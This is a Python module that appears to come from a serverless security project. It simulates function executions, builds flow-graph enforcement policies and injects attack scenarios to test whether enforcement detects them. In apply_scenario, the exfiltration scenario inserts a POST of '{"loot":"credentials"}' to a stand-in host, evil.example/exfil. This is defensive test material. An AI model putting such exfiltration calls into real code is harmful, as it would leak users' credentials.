"""Discrete-event simulator for scripted serverless applications.

One logical timeline drives everything: function executions run their
scripts, services answer from canned rules and trigger downstream functions,
and in enforce mode every inbound request, outbound flow, and response passes
through a per-execution guard wired to an in-process controller.  Identical
(app, requests, seed) always produce byte-identical logs.
"""

from __future__ import annotations

import hashlib
import heapq
import json
import math
import random
import re
from dataclasses import dataclass, field
from enum import Enum
from typing import Mapping, Sequence
from urllib.parse import urlsplit

from .. import credential as credmod
from ..controller import Controller, RateLimitEntry, TenantConfig, AppConfig
from ..enforce import (
    Decision,
    EnforcementState,
    Mode,
    Reason,
    SourceMismatch,
    Verdict,
    begin_execution,
    end_execution,
    step,
)
from ..model import (
    Direction,
    Flow,
    FlowEvent,
    HttpOp,
    Tag,
    normalize_url,
)
from ..policy import PolicyBundle, build_policies
from ..protocol import EventEnvelope, EventType, insert_tag, strip_tag
from .appspec import (
    AppSpec,
    FunctionSpec,
    ReturnDirective,
    ScriptError,
    SendDirective,
    SendEachDirective,
    ServiceSpec,
    sample_inputs,
)

EVENT_TICK_NS = 1_000
SECOND_NS = 1_000_000_000


class RunMode(str, Enum):
    RECORD = "record"
    ENFORCE = "enforce"


class AttackKind(str, Enum):
    EXFILTRATE_FLOW = "exfiltrate"
    REPEAT_FLOW = "repeat"
    BYPASS_INVOKE = "bypass"
    OUT_OF_ORDER = "out-of-order"


@dataclass(frozen=True)
class AttackScenario:
    kind: AttackKind
    function: str
    params: Mapping[str, object] = field(default_factory=dict)


@dataclass
class RequestLog:
    round_index: int
    request_index: int
    entry: str
    execution_id: str
    events: list[FlowEvent] = field(default_factory=list)


@dataclass
class RunReport:
    mode: RunMode
    seed: int
    request_logs: list[RequestLog] = field(default_factory=list)
    decisions: list[dict] = field(default_factory=list)
    alarms: list[dict] = field(default_factory=list)
    deliveries: list[dict] = field(default_factory=list)
    broadcasts: list[dict] = field(default_factory=list)
    detection: dict | None = None

    @property
    def events(self) -> list[FlowEvent]:
        merged = [e for log in self.request_logs for e in log.events]
        merged.sort(key=lambda e: e.ts)
        return merged

    @property
    def denials(self) -> list[dict]:
        return [d for d in self.decisions if d["verdict"] == Verdict.DENY.value]

    def allowed_deliveries(self, url_prefix: str) -> list[dict]:
        return [
            d
            for d in self.deliveries
            if d["kind"] == "service" and d["url"].startswith(url_prefix)
        ]

    def summary(self) -> dict:
        return {
            "mode": self.mode.value,
            "seed": self.seed,
            "requests": len(self.request_logs),
            "events": sum(len(log.events) for log in self.request_logs),
            "decisions": len(self.decisions),
            "denials": len(self.denials),
            "alarms": len(self.alarms),
            "broadcasts": self.broadcasts,
            "detection": self.detection,
        }

    def to_json(self) -> str:
        return json.dumps(self.summary(), indent=2, sort_keys=True) + "\n"


def _http_request(op: HttpOp, url: str, body: bytes) -> bytes:
    parts = urlsplit(url)
    path = parts.path or "/"
    lines = [
        f"{op.value} {path} HTTP/1.1",
        f"Host: {parts.netloc}",
    ]
    if body:
        lines.append(f"Content-Length: {len(body)}")
    head = "\r\n".join(lines).encode("ascii")
    return head + b"\r\n\r\n" + body


def _http_response(body: bytes) -> bytes:
    head = (
        f"HTTP/1.1 200 OK\r\nContent-Length: {len(body)}".encode("ascii")
    )
    return head + b"\r\n\r\n" + body


_SLOT_RE = re.compile(r"\{([A-Za-z_][A-Za-z0-9_]*)(?::([^{}]*))?\}")


def render_template(template: str, variables: Mapping[str, object]) -> str:
    """Fill {name} and {name:spec} slots from variables; anything that does
    not look like a slot (JSON braces included) passes through untouched."""

    def fill(match: re.Match) -> str:
        name, spec = match.group(1), match.group(2)
        if name not in variables:
            raise ScriptError(f"script references unknown variable {name!r}")
        value = variables[name]
        return format(value, spec) if spec else str(value)

    return _SLOT_RE.sub(fill, template)


def _body_digest(body: bytes) -> str:
    return hashlib.sha256(body).hexdigest()[:32]


class _Guard:
    """Per-execution guard: local flow-graph enforcement, credential
    rewriting, rate-limit stop handling, and tag bookkeeping."""

    def __init__(
        self,
        sim: "Simulator",
        function: FunctionSpec,
        instance_id: str,
    ) -> None:
        self.sim = sim
        self.spec = function
        self.instance_id = instance_id
        self.silent = False
        self.guard_id = sim.controller.handle_register(
            instance_id, function.name, notify=self._notify
        )
        bundle = sim.policies
        self.graph = bundle.functions.get(function.name) if bundle else None
        self.mode = bundle.fail_mode if bundle else Mode.FAIL_CLOSED
        self.state: EnforcementState | None = None
        self.tag: Tag | None = None
        self.vault = (
            credmod.TokenVault(rng=random.Random(sim.rng.getrandbits(64)))
            if bundle and bundle.credential
            else None
        )

    # -- controller push channel ------------------------------------------

    def _notify(self, envelope: EventEnvelope) -> bool:
        if envelope.event_type == EventType.HEARTBEAT:
            return not self.silent
        if envelope.event_type in (EventType.STOP, EventType.RESUME):
            entry = RateLimitEntry.from_dict(envelope.json_body())
            if envelope.event_type == EventType.STOP:
                self.sim.stopped_entries.add(entry.key())
            else:
                self.sim.stopped_entries.discard(entry.key())
            return True
        if envelope.event_type == EventType.POLICY_PUSH:
            try:
                from ..model import LocalFlowGraph

                graph = LocalFlowGraph.from_dict(envelope.json_body()["graph"])
            except Exception:
                return False
            self.graph = graph
            return True
        return True

    # -- inbound request ------------------------------------------------------

    def begin(self, source: str, tag: Tag | None, ts: int) -> Decision:
        if self.graph is None:
            if self.mode is Mode.FAIL_OPEN:
                return Decision(Verdict.ALLOW, Reason.FAIL_OPEN_VIOLATION)
            return Decision(Verdict.DENY, Reason.NO_POLICY, detail=self.spec.name)
        in_source = tag.function if tag is not None else source
        escalate = False
        try:
            self.state = begin_execution(self.graph, in_source, self.mode)
            escalate = self.state.needs_controller_check
        except SourceMismatch as exc:
            if tag is not None:
                # A tagged inbound request from the wrong function is final.
                return Decision(Verdict.DENY, Reason.SOURCE_MISMATCH, detail=str(exc))
            escalate = True
            self.state = EnforcementState(graph=self.graph, mode=self.mode)
            self.state.frontier = {(self.graph.entry, 1, 0)}
        controller = self.sim.controller
        if tag is not None:
            minted = controller.begin_tagged_execution(self.guard_id, tag, ts)
            self.tag = Tag(self.spec.name, self.guard_id, minted.request_id)
            return Decision(Verdict.ALLOW)
        is_entry = (
            self.spec.name in self.sim.app.entry_functions
            and not escalate
            and self.sim.app.service_for_url_name(source) is None
        )
        if is_entry:
            minted = controller.begin_entry_execution(self.guard_id, ts)
            self.tag = minted
            return Decision(Verdict.ALLOW)
        service = source if self.sim.app.service_for_url_name(source) else None
        ok, predecessor_tag = controller.check_predecessor(self.guard_id, service, ts)
        if not ok:
            if self.mode is Mode.FAIL_OPEN:
                return Decision(Verdict.ALLOW, Reason.FAIL_OPEN_VIOLATION)
            return Decision(
                Verdict.DENY, Reason.PREDECESSOR_MISSING, detail=source
            )
        assert predecessor_tag is not None
        self.tag = Tag(self.spec.name, self.guard_id, predecessor_tag.request_id)
        return Decision(Verdict.ALLOW)

    # -- outbound flow ---------------------------------------------------------

    def on_send(
        self, flow: Flow, message: bytes, session: str, ts: int
    ) -> tuple[Decision, bytes]:
        if self.state is None:
            return Decision(Verdict.DENY, Reason.NO_POLICY), message
        decision = step(self.state, flow)
        if decision.allowed and self._stopped(flow):
            decision = Decision(Verdict.DENY, Reason.RATE_LIMITED, detail=flow.url)
        bundle = self.sim.policies
        if decision.allowed and bundle and bundle.credential and self.vault is not None:
            cred = credmod.on_send(
                bundle.credential, self.vault, message, flow.url, flow.op, session
            )
            if cred.rewrite is not None:
                message = cred.rewrite
        if decision.allowed:
            if not self.sim.controller.allow_send(
                self.guard_id, flow.url, flow.op, ts / SECOND_NS
            ):
                decision = Decision(
                    Verdict.DENY, Reason.RATE_LIMITED, detail=flow.url
                )
        if decision.allowed and self.tag is not None:
            message = insert_tag(message, self.tag)
        return decision, message

    def _stopped(self, flow: Flow) -> bool:
        bundle = self.sim.policies
        if not bundle:
            return False
        for entry in bundle.rate_limits:
            if (
                entry.key() in self.sim.stopped_entries
                and entry.matches(self.spec.name, flow.url, flow.op)
            ):
                return True
        return False

    # -- inbound response --------------------------------------------------------

    def on_recv(
        self, message: bytes, url: str, op: HttpOp, session: str
    ) -> bytes:
        message, echoed = strip_tag(message)
        if echoed is not None and self.tag is not None and echoed != self.tag:
            self.sim.alarms.append(
                {
                    "reason": "tag_mismatch",
                    "function": self.spec.name,
                    "detail": f"response tag for {echoed.function}",
                }
            )
        bundle = self.sim.policies
        if bundle and bundle.credential and self.vault is not None:
            cred = credmod.on_recv(
                bundle.credential, self.vault, message, url, op, session
            )
            if cred.rewrite is not None:
                message = cred.rewrite
        return message

    # -- completion ----------------------------------------------------------------

    def end(self) -> Decision:
        if self.state is None:
            return Decision(Verdict.DENY, Reason.NO_POLICY)
        return end_execution(self.state)


class Simulator:
    def __init__(
        self,
        app: AppSpec,
        mode: RunMode = RunMode.RECORD,
        policies: PolicyBundle | None = None,
        seed: int = 0,
        trigger_latency_ns: int = 0,
    ) -> None:
        if mode is RunMode.ENFORCE and policies is None:
            raise ValueError("enforce mode requires policies")
        self.app = _AppView(app)
        self.mode = mode
        self.policies = policies
        self.seed = seed
        self.rng = random.Random(seed)
        self.trigger_latency_ns = trigger_latency_ns
        self.now_ns = 0
        self._heap: list[tuple[int, int, dict]] = []
        self._seq = 0
        self._instance_seq = 0
        self._session_seq = 0
        self.stopped_entries: set[tuple] = set()
        self.alarms: list[dict] = []
        self.report = RunReport(mode=mode, seed=seed)
        self.controller = self._make_controller()

    # -- setup ------------------------------------------------------------------

    def _make_controller(self) -> Controller:
        spec = self.app.spec
        bundle = self.policies
        app_config = AppConfig(
            name=spec.name,
            functions=tuple(f.name for f in spec.functions),
            entry_functions=tuple(spec.entry_functions),
            default_fan_out=10**9,
            rate_limits=bundle.rate_limits if bundle else (),
            global_graph=bundle.global_graph if bundle else None,
            topology=spec.topology(),
            fail_mode=bundle.fail_mode if bundle else Mode.FAIL_CLOSED,
        )
        config = TenantConfig(applications={spec.name: app_config})
        request_ids = random.Random(self.seed ^ 0x5EC1A)
        return Controller(config, request_id_source=lambda: request_ids.randbytes(16))

    # -- clock -------------------------------------------------------------------

    def _tick_clock(self, delta_ns: int = EVENT_TICK_NS) -> int:
        self.now_ns += delta_ns
        return self.now_ns

    # -- scheduling ----------------------------------------------------------------

    def _schedule(self, at_ns: int, action: dict) -> None:
        heapq.heappush(self._heap, (at_ns, self._seq, action))
        self._seq += 1

    def run_rounds(
        self, rounds: Sequence[Sequence[tuple[str, Mapping]]]
    ) -> RunReport:
        """Process rounds of requests; requests run one at a time, as during
        trace collection."""
        for round_index, requests in enumerate(rounds):
            for request_index, (entry, request_input) in enumerate(requests):
                log = RequestLog(
                    round_index=round_index,
                    request_index=request_index,
                    entry=entry,
                    execution_id=f"r{round_index:04d}q{request_index}",
                )
                self.report.request_logs.append(log)
                self._schedule(
                    self._tick_clock(),
                    {
                        "kind": "invoke",
                        "function": entry,
                        "input": dict(request_input),
                        "source": "user",
                        "tag": None,
                        "log": log,
                        "body": json.dumps(request_input, sort_keys=True),
                    },
                )
                self._drain()
        self._final_ticks()
        self.report.alarms.extend(
            {
                "application": a.application,
                "function": a.function,
                "reason": a.reason,
                "detail": a.detail,
                "ts": a.ts,
            }
            for a in self.controller.alarms
        )
        self.report.alarms.extend(self.alarms)
        self.report.broadcasts.extend(self.controller.broadcasts)
        return self.report

    def _drain(self) -> None:
        while self._heap:
            at_ns, _, action = heapq.heappop(self._heap)
            self.now_ns = max(self.now_ns, at_ns)
            if action["kind"] == "invoke":
                self._execute(action)

    def _final_ticks(self) -> None:
        """Run controller seconds past the last event so heartbeats settle
        and stopped rate-limit entries get their RESUME."""
        second = math.floor(self.now_ns / SECOND_NS) + 1
        deadline = second + 30
        while second <= deadline:
            self.controller.tick(float(second))
            if not self.controller.stop_state and second > self.now_ns / SECOND_NS:
                break
            second += 1

    # -- execution ---------------------------------------------------------------

    def _execute(self, action: dict) -> None:
        spec = self.app.spec.function(action["function"])
        log: RequestLog = action["log"]
        source: str = action["source"]
        tag: Tag | None = action["tag"]
        self._instance_seq += 1
        instance_id = f"i-{self._instance_seq:05d}"

        ts = self._tick_clock()
        log.events.append(
            FlowEvent(
                ts=ts,
                fn=spec.name,
                inst=instance_id,
                direction=Direction.IN,
                url=source,
                op=HttpOp.OTHER,
            )
        )
        self._deliver_to_function(spec.name, source, action.get("body", ""))

        guard: _Guard | None = None
        if self.mode is RunMode.ENFORCE:
            guard = _Guard(self, spec, instance_id)
            decision = guard.begin(source, tag, ts)
            self._record_decision(spec.name, instance_id, "in", source, decision, ts)
            self._forward_event(guard, log.events[-1], decision)
            if not decision.allowed:
                return

        variables: dict[str, object] = dict(action["input"])
        completed = False
        for directive in spec.script:
            if isinstance(directive, ReturnDirective):
                completed = True
                break
            if isinstance(directive, SendDirective):
                count = self._repeat_count(directive.repeat, variables)
                for n in range(1, count + 1):
                    url = normalize_url(
                        render_template(directive.url, {**variables, "n": n})
                    )
                    self._do_send(
                        spec, guard, log, directive, url, variables, n, action
                    )
            elif isinstance(directive, SendEachDirective):
                urls = variables.get(directive.urls_key.lstrip("$"))
                if not isinstance(urls, list):
                    raise ScriptError(
                        f"input key {directive.urls_key!r} is not a URL list"
                    )
                for n, raw_url in enumerate(urls, start=1):
                    self._do_send(
                        spec,
                        guard,
                        log,
                        directive,
                        normalize_url(str(raw_url)),
                        variables,
                        n,
                        action,
                    )

        ts = self._tick_clock()
        log.events.append(
            FlowEvent(
                ts=ts,
                fn=spec.name,
                inst=instance_id,
                direction=Direction.OUT,
                url="",
                op=HttpOp.OTHER,
            )
        )
        if guard is not None:
            decision = guard.end()
            self._record_decision(spec.name, instance_id, "out", "", decision, ts)
            self._forward_event(guard, log.events[-1], decision)
        if not completed:
            # Script fell off the end without an explicit return; the exit
            # event still fires (the runtime always sees the response).
            pass

    def _repeat_count(self, repeat: int | str, variables: Mapping) -> int:
        if isinstance(repeat, int):
            return repeat
        key = str(repeat).lstrip("$")
        value = variables.get(key)
        if not isinstance(value, int) or value < 0:
            raise ScriptError(f"repeat expression {repeat!r} is not a count")
        return value

    def _do_send(
        self,
        spec: FunctionSpec,
        guard: _Guard | None,
        log: RequestLog,
        directive: SendDirective | SendEachDirective,
        url: str,
        variables: dict,
        n: int,
        action: dict,
    ) -> None:
        slots = dict(variables)
        slots["n"] = n
        if directive.delay_ns:
            self._tick_clock(directive.delay_ns)
        op = directive.op
        body = (
            render_template(directive.body, slots).encode("utf-8")
            if directive.body
            else b""
        )
        message = _http_request(op, url, body)
        self._session_seq += 1
        session = f"c{self._session_seq}"
        ts = self._tick_clock()
        event = FlowEvent(
            ts=ts,
            fn=spec.name,
            inst=log.events[-1].inst if log.events else "i-?",
            direction=Direction.SEND,
            url=url,
            op=op,
            sess=session,
            digest=_body_digest(body) if body else None,
        )
        log.events.append(event)

        decision = Decision(Verdict.ALLOW)
        if guard is not None:
            decision, message = guard.on_send(Flow(url, op), message, session, ts)
            self._record_decision(spec.name, event.inst, "send", url, decision, ts)
            self._forward_event(guard, event, decision)
        if not decision.allowed:
            return

        response_body = self._deliver(spec, url, op, message, action, slots)
        response = _http_response(response_body)
        ts = self._tick_clock()
        recv_event = FlowEvent(
            ts=ts,
            fn=spec.name,
            inst=event.inst,
            direction=Direction.RECV,
            url=url,
            op=op,
            sess=session,
        )
        log.events.append(recv_event)
        final = response
        if guard is not None:
            final = guard.on_recv(response, url, op, session)
            self._forward_event(guard, recv_event, Decision(Verdict.ALLOW))
        self._deliver_to_function(spec.name, url, final.decode("utf-8", "replace"))
        if isinstance(directive, SendDirective) and directive.capture:
            var, pattern = directive.capture
            parsed = credmod.HttpMessage.parse(final)
            match = re.search(pattern, parsed.body.decode("utf-8", "replace"))
            if match:
                variables[var] = match.group(1)
                action["input"][var] = match.group(1)

    def _deliver(
        self,
        sender: FunctionSpec,
        url: str,
        op: HttpOp,
        message: bytes,
        action: dict,
        slots: Mapping,
    ) -> bytes:
        """Hand the (possibly rewritten) message to its destination and
        return the raw response body."""
        target = self.app.spec.function_for_entry_url(url)
        parsed = credmod.HttpMessage.parse(message)
        if target is not None:
            self.report.deliveries.append(
                {
                    "kind": "function",
                    "to": target.name,
                    "url": url,
                    "op": op.value,
                    "body": parsed.body.decode("utf-8", "replace"),
                    "message": message.decode("utf-8", "replace"),
                }
            )
            _, carried = strip_tag(message)
            self._schedule(
                self.now_ns + self.trigger_latency_ns + 1,
                {
                    "kind": "invoke",
                    "function": target.name,
                    "input": dict(action["input"]),
                    "source": sender.name,
                    "tag": carried,
                    "log": action["log"],
                    "body": parsed.body.decode("utf-8", "replace"),
                },
            )
            return b'{"status":"accepted"}'
        service = self.app.spec.service_for_url(url)
        service_name = service.name if service else urlsplit(url).netloc
        self.report.deliveries.append(
            {
                "kind": "service",
                "to": service_name,
                "url": url,
                "op": op.value,
                "body": parsed.body.decode("utf-8", "replace"),
                "message": message.decode("utf-8", "replace"),
            }
        )
        if service is None:
            return b"ok"
        path = urlsplit(url).path
        for trigger in service.triggers:
            if trigger.op is op and path.startswith(trigger.path_prefix):
                self._schedule(
                    self.now_ns + self.trigger_latency_ns + 1,
                    {
                        "kind": "invoke",
                        "function": trigger.target,
                        "input": dict(action["input"]),
                        "source": service.name,
                        "tag": None,
                        "log": action["log"],
                        "body": json.dumps(
                            {"event": f"{op.value} {path}", "service": service.name}
                        ),
                    },
                )
        for rule in service.responses:
            if rule.op is op and path.startswith(rule.path_prefix):
                body = rule.body
                if rule.echo:
                    match = re.search(
                        rule.echo, parsed.body.decode("utf-8", "replace")
                    )
                    if match:
                        body = body.replace("{match}", match.group(1))
                return body.encode("utf-8")
        return b"ok"

    def _deliver_to_function(self, function: str, url: str, body: str) -> None:
        self.report.deliveries.append(
            {
                "kind": "function_input",
                "to": function,
                "url": url,
                "op": "",
                "body": body,
                "message": body,
            }
        )

    # -- bookkeeping -----------------------------------------------------------

    def _record_decision(
        self,
        function: str,
        instance: str,
        phase: str,
        url: str,
        decision: Decision,
        ts: int,
    ) -> None:
        self.report.decisions.append(
            {
                "ts": ts,
                "function": function,
                "instance": instance,
                "phase": phase,
                "url": url,
                "verdict": decision.verdict.value,
                "reason": decision.reason.value,
                "detail": decision.detail,
            }
        )

    def _forward_event(
        self, guard: _Guard, event: FlowEvent, decision: Decision
    ) -> None:
        try:
            self.controller.record_event(
                guard.guard_id,
                event,
                decision=decision.verdict.value,
                reason=decision.reason.value,
            )
        except Exception:
            pass


class _AppView:
    """Small helper caching service-name lookups for the guard."""

    def __init__(self, spec: AppSpec) -> None:
        self.spec = spec
        self._service_names = {s.name for s in spec.services}
        self.entry_functions = set(spec.entry_functions)

    def service_for_url_name(self, name: str) -> str | None:
        return name if name in self._service_names else None


# ---------------------------------------------------------------------------
# Module-level operations


def run(
    app: AppSpec,
    requests: Sequence[tuple[str, Mapping]],
    mode: RunMode = RunMode.RECORD,
    policies: PolicyBundle | None = None,
    seed: int = 0,
    trigger_latency_ns: int = 0,
) -> RunReport:
    """Run one request per round through the simulator."""
    sim = Simulator(
        app,
        mode=mode,
        policies=policies,
        seed=seed,
        trigger_latency_ns=trigger_latency_ns,
    )
    return sim.run_rounds([[request] for request in requests])


def sample_rounds(
    app: AppSpec, n_rounds: int, seed: int
) -> list[list[tuple[str, dict]]]:
    """One request per entry function per round, with seeded inputs."""
    rng = random.Random(seed)
    rounds = []
    for _ in range(n_rounds):
        rounds.append(
            [(entry, sample_inputs(app, rng)) for entry in app.entry_functions]
        )
    return rounds


def record_rounds(
    app: AppSpec, n_rounds: int, seed: int
) -> tuple[RunReport, list[tuple[str, list[FlowEvent]]]]:
    sim = Simulator(app, mode=RunMode.RECORD, seed=seed)
    report = sim.run_rounds(sample_rounds(app, n_rounds, seed))
    logs = [(log.execution_id, log.events) for log in report.request_logs]
    return report, logs


def policies_from_recording(
    app: AppSpec,
    n_rounds: int,
    seed: int,
    t_lcp: int = 1,
    fail_mode: Mode = Mode.FAIL_CLOSED,
) -> PolicyBundle:
    _, logs = record_rounds(app, n_rounds, seed)
    return build_policies(logs, app.topology(), t_lcp=t_lcp, fail_mode=fail_mode)


def eval_rounds(
    app: AppSpec, n_rounds: int, seed: int, t_lcp: int = 1
) -> list[tuple[int, int]]:
    """Record ``n_rounds`` rounds, then for every training prefix size n
    count the not-yet-covered rounds among the remainder.  Returns
    (n, errors) pairs suitable for CSV output."""
    from ..graphbuild import coverage_error
    from ..model import extract_traces

    report, logs = record_rounds(app, n_rounds, seed)
    rounds: dict[int, list] = {}
    for log in report.request_logs:
        rounds.setdefault(log.round_index, []).extend(extract_traces(log.events))
    ordered = [rounds[i] for i in sorted(rounds)]
    curve = []
    for n in range(0, len(ordered) + 1):
        curve.append((n, coverage_error(ordered[:n], ordered[n:], t_lcp)))
    return curve


def curve_to_csv(curve: Sequence[tuple[int, int]]) -> str:
    lines = ["n,errors"]
    lines.extend(f"{n},{errors}" for n, errors in curve)
    return "\n".join(lines) + "\n"


def apply_scenario(app: AppSpec, scenario: AttackScenario) -> AppSpec:
    """Return a copy of the app with the scenario's behavior injected."""
    functions = []
    for spec in app.functions:
        if spec.name != scenario.function:
            functions.append(spec)
            continue
        script = list(spec.script)
        if scenario.kind is AttackKind.EXFILTRATE_FLOW:
            position = int(scenario.params.get("at", 1))
            script.insert(
                position,
                SendDirective(
                    url=str(
                        scenario.params.get("url", "https://evil.example/exfil")
                    ),
                    op=HttpOp.POST,
                    body='{"loot":"credentials"}',
                ),
            )
        elif scenario.kind is AttackKind.REPEAT_FLOW:
            count = int(scenario.params.get("count", 5))
            replaced = False
            for index, directive in enumerate(script):
                if isinstance(directive, SendDirective) and not replaced:
                    script[index] = SendDirective(
                        url=directive.url,
                        op=directive.op,
                        repeat=count,
                        body=directive.body,
                        capture=directive.capture,
                        delay_ns=directive.delay_ns,
                    )
                    replaced = True
        elif scenario.kind is AttackKind.OUT_OF_ORDER:
            sends = [d for d in script if not isinstance(d, ReturnDirective)]
            rest = [d for d in script if isinstance(d, ReturnDirective)]
            script = list(reversed(sends)) + rest
        functions.append(
            FunctionSpec(
                name=spec.name,
                source=spec.source,
                script=tuple(script),
                entry_url=spec.entry_url,
            )
        )
    return AppSpec(
        name=app.name,
        functions=tuple(functions),
        services=app.services,
        entry_functions=app.entry_functions,
        input_model=app.input_model,
    )


def inject(
    app: AppSpec,
    scenario: AttackScenario,
    policies: PolicyBundle,
    seed: int = 0,
) -> RunReport:
    """Run the app with an injected attack and report whether enforcement
    caught it (and at which event)."""
    rng = random.Random(seed)
    if scenario.kind is AttackKind.BYPASS_INVOKE:
        sim = Simulator(app, mode=RunMode.ENFORCE, policies=policies, seed=seed)
        target = app.function(scenario.function)
        log = RequestLog(
            round_index=0, request_index=0, entry=target.name, execution_id="attack"
        )
        sim.report.request_logs.append(log)
        sim._schedule(
            sim._tick_clock(),
            {
                "kind": "invoke",
                "function": target.name,
                "input": sample_inputs(app, rng),
                "source": target.source,
                "tag": None,
                "log": log,
                "body": '{"direct":"invoke"}',
            },
        )
        sim._drain()
        sim._final_ticks()
        report = sim.report
        report.alarms.extend(
            {
                "application": a.application,
                "function": a.function,
                "reason": a.reason,
                "detail": a.detail,
                "ts": a.ts,
            }
            for a in sim.controller.alarms
        )
        report.detection = _detect(report, scenario)
        return report

    attacked = apply_scenario(app, scenario)
    entry = (
        scenario.function
        if scenario.function in app.entry_functions
        else app.entry_functions[0]
    )
    report = run(
        attacked,
        [(entry, sample_inputs(app, rng))],
        mode=RunMode.ENFORCE,
        policies=policies,
        seed=seed,
    )
    report.detection = _detect(report, scenario)
    return report


def _detect(report: RunReport, scenario: AttackScenario) -> dict:
    detected = False
    at = None
    reason = ""
    if scenario.kind is AttackKind.BYPASS_INVOKE:
        for alarm in report.alarms:
            if alarm.get("reason") == "no_predecessor_available":
                detected = True
                reason = alarm["reason"]
                break
    else:
        wanted = {
            AttackKind.EXFILTRATE_FLOW: (
                Reason.NO_MATCHING_SUCCESSOR.value,
                Reason.LOOP_COUNTER_EXCEEDED.value,
            ),
            AttackKind.REPEAT_FLOW: (Reason.LOOP_COUNTER_EXCEEDED.value,),
            AttackKind.OUT_OF_ORDER: (
                Reason.NO_MATCHING_SUCCESSOR.value,
                Reason.LOOP_COUNTER_EXCEEDED.value,
                Reason.INCOMPLETE_PATH.value,
            ),
        }[scenario.kind]
        for index, decision in enumerate(report.decisions):
            if (
                decision["verdict"] == Verdict.DENY.value
                and decision["reason"] in wanted
            ):
                detected = True
                at = index
                reason = decision["reason"]
                break
    return {
        "scenario": scenario.kind.value,
        "function": scenario.function,
        "detected": detected,
        "at_decision": at,
        "reason": reason,
    }
